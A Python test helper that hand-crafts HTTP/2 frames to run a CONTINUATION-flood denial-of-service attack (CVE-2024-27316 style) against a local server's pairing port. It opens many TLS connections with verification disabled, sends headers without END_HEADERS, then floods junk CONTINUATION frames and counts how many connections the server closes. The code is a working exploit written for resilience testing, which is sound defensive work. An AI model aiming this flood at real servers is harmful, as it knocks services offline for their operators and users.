"""A stranger's hand-made HTTP/2 on the pairing port (no h2 library: frames by hand), as a process
of its own.

    python -m tests.server.h2flood PORT cont CONNECTIONS SECONDS

`cont` (CVE-2024-27316 style): a HEADERS frame without END_HEADERS, then CONTINUATION frames of
junk headers for SECONDS, on each connection; a connection the server closes is opened again.
Prints one line with the bytes sent and the connections the server closed.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import struct
import sys
import time


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _int(value: int, prefix: int) -> bytes:
    """HPACK integer with an N-bit prefix (first byte's flags are 0)."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out, value = bytes([limit]), value - limit
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def literal(name: str, value: str) -> bytes:
    """A literal header field without indexing, new name."""
    n, v = name.encode(), value.encode()
    return b"\x00" + _int(len(n), 7) + n + _int(len(v), 7) + v


HEADERS = b"".join(
    literal(k, v)
    for k, v in (
        (":method", "POST"),
        (":scheme", "https"),
        (":path", "/satbridge.v1.Pairing/GetIdentity"),
        (":authority", "satbridge"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
HEADERS_FRAME, CONTINUATION_FRAME = 1, 9


async def cont(port: int, end: float, tally: dict[str, int]) -> None:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname="satbridge")
        except (OSError, ssl.SSLError):
            await asyncio.sleep(0.1)
            continue
        writer.write(PREFACE + frame(HEADERS_FRAME, 0, 1, HEADERS))  # no END_HEADERS
        n = 0
        with contextlib.suppress(OSError, ssl.SSLError):
            while time.monotonic() < end and not reader.at_eof():
                chunk = b"".join(
                    frame(CONTINUATION_FRAME, 0, 1, literal(f"x-junk-{n}-{i}", "a" * 1000)) for i in range(16)
                )
                writer.write(chunk)
                await writer.drain()
                tally["bytes"] += len(chunk)
                n += 1
                await asyncio.sleep(0.005)
        if time.monotonic() < end:
            tally["closed"] += 1
        writer.transport.abort()


async def main(port: int, mode: str, connections: int, seconds: float) -> None:
    assert mode == "cont", mode
    tally = {"bytes": 0, "closed": 0}
    end = time.monotonic() + seconds
    await asyncio.gather(*(cont(port, end, tally) for _ in range(connections)))
    print(f"cont: {tally['bytes'] >> 20} MiB sent on {connections} connections, {tally['closed']} closed by the server")


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])))
